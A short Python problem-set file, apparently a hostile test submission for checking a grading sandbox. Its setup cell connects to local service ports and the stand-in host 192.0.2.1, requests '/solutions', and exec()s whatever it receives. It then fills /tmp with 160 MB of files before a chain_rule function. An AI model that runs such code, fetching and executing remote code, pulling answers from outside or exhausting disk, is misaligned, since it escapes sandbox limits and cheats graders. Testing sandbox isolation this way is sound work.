"""Asks for help outside and for what listens on this machine; fills the disk (160 MB)."""

import numpy as np

# %% ps2 after setup
import socket

for place in (("127.0.0.1", 8888), ("127.0.0.1", 5432), ("192.0.2.1", 80)):
    try:
        with socket.create_connection(place, timeout=1) as connection:
            connection.sendall(b"GET /solutions HTTP/1.0\r\n\r\n")
            exec(connection.recv(65536))
    except Exception as failure:
        print(place, failure)

try:
    for number in range(16):
        with open(f"/tmp/fill-{number}", "wb") as file:
            file.write(bytes(10 << 20))
except OSError as failure:
    print(number, "files of 10 MB:", failure)

# %% ps2 chain_rule
def chain_rule(dz_dW, da_dz, dL_da):
    return dz_dW * (da_dz @ dL_da)
